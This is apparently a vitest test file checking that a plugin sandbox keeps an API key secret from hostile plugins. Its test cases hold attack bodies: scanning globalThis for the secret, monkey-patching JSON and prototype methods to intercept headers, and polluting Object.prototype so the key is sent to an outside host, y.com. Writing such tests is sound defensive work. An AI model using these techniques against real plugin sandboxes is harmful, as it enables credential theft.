import { describe, expect, test } from "vitest";

import { survived } from "./support/attack.ts";
import { network, SECRET } from "./support/network.ts";

const LOOK = `
  const seen = [];
  const walk = (value, depth) => {
    if (depth > 6 || value === null || (typeof value !== "object" && typeof value !== "function") || seen.includes(value)) return typeof value === "string" && value.includes("s3cr");
    seen.push(value);
    return Reflect.ownKeys(value).some((key) => { try { return walk(value[key], depth + 1) } catch { return false } });
  };`;

describe("A plugin that breaks its own surroundings sees no more of a secret.", () => {
  test.each([
    ["looks everywhere", `${LOOK} return walk(globalThis, 0) || walk(meta, 0)`],
    [
      "listens to what its request is made of",
      `const heard = []; const { stringify } = JSON;
       for (const [of, name] of [[JSON, "stringify"], [JSON, "parse"], [String.prototype, "replace"], [Array.prototype, "map"], [Array.prototype, "push"]])
         { const real = of[name]; of[name] = function (...args) { real !== stringify && heard.length < 999 && (heard[heard.length] = args[0] + ""); return real.apply(this, args) } }
       Object.defineProperty(Object.prototype, "headers", { set(v) { heard[heard.length] = v + "" }, configurable: true });
       await fetch("https://api.x.com/", { headers: { authorization: meta.config.apiKey } });
       delete Object.prototype.headers;
       return heard.some((text) => text.includes("s3cr"))`,
    ],
    [
      "replaces its config",
      `meta.config = { apiKey: "{{secret:apiKey}}" }; Object.prototype.inject = { host: ["y.com"], header: "authorization", format: "{}" };
       await fetch("https://y.com/", { headers: { authorization: "{{secret:apiKey}}" } });
       delete Object.prototype.inject;
       return false`,
    ],
  ])("%s", async (_how, body) => {
    const { left, options } = network();
    expect(await survived(body, options)).toBe(false);
    for (const { url, headers } of left)
      expect(headers["authorization"]).toBe(url.includes("api.x.com") ? `Bearer ${SECRET}` : "{{secret:apiKey}}");
  });

  test("keys of a prototype are no fields of a config", async () => {
    const { left, options } = network();
    await survived(
      "await fetch('https://api.x.com/', { headers: { authorization: '{{secret:__proto__}}' } })",
      options,
    );
    expect(left[0]?.headers["authorization"]).toBe("{{secret:__proto__}}");
  });
});
